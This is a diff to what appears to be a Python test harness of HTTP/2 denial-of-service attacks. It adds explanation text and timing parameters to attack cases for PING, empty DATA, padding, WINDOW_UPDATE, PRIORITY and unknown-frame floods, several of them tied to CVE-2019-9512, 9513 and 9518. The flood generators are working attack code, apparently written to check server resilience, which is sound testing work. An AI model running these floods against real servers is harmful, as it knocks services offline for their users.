@@ -71,6 +71,12 @@ def _(c):
         yield b"".join(heads(first, 100)) + b"".join(reset(s) for s in range(first, first + 200, 2))
 
 
+CHEAP = (
+    "while a request is at work, frames without content are read as they come: they hold nothing, and cost the worker no more "
+    "than their sender; without one the connection is closed after head_timeout or keep_alive_timeout"
+)
+
+
 def work():
     """A request that is at work: whatever comes now, no time-out ends it."""
     return b"".join(heads(path=SLOW, count=1))
@@ -143,7 +149,7 @@ def _(c):
     yield from many([SettingsFrame(0, settings={4: 0}), SettingsFrame(0, settings={4: 65535})] * 250)
 
 
-@attack("PING flood, unread (CVE-2019-9512)")
+@attack("PING flood, unread (CVE-2019-9512)", why=CHEAP)
 def _(c):
     yield work()
     yield from many([PingFrame(0, b"12345678")] * 500)
@@ -154,43 +160,43 @@ def _(c):
     yield from many([SettingsFrame(0, settings={4: 65535})] * 500)
 
 
-@attack("PING flood, read", read=True)
+@attack("PING flood, read", why=CHEAP, read=True)
 def _(c):
     yield work()
     yield from many([PingFrame(0, b"12345678")] * 500)
 
 
-@attack("empty DATA flood (CVE-2019-9518)")
+@attack("empty DATA flood (CVE-2019-9518)", wait=7)
 def _(c):
     yield from heads(count=1, end=False, method="POST")
     yield from many([DataFrame(1, b"")] * 500)
 
 
-@attack("DATA that is padding only")
+@attack("DATA that is padding only", wait=7)
 def _(c):
     yield from heads(count=1, end=False, method="POST")
     yield from many([DataFrame(1, b"", pad_length=250, flags=["PADDED"])] * 100)
 
 
-@attack("WINDOW_UPDATE flood")
+@attack("WINDOW_UPDATE flood", why=CHEAP)
 def _(c):
     yield work()
     yield from many([WindowUpdateFrame(0, window_increment=1)] * 500)
 
 
-@attack("WINDOW_UPDATE flood on a stream")
+@attack("WINDOW_UPDATE flood on a stream", wait=7)
 def _(c):
     yield from heads(count=1, end=False, method="POST")
     yield from many([WindowUpdateFrame(1, window_increment=1)] * 500)
 
 
-@attack("PRIORITY flood (CVE-2019-9513)")
+@attack("PRIORITY flood (CVE-2019-9513)", why=CHEAP)
 def _(c):
     yield work()
     yield from many([PriorityFrame(2 * i + 1, depends_on=0, stream_weight=3) for i in range(500)])
 
 
-@attack("flood of unknown frames")
+@attack("flood of unknown frames", why=CHEAP)
 def _(c):
     yield work()
     for _ in range(200):
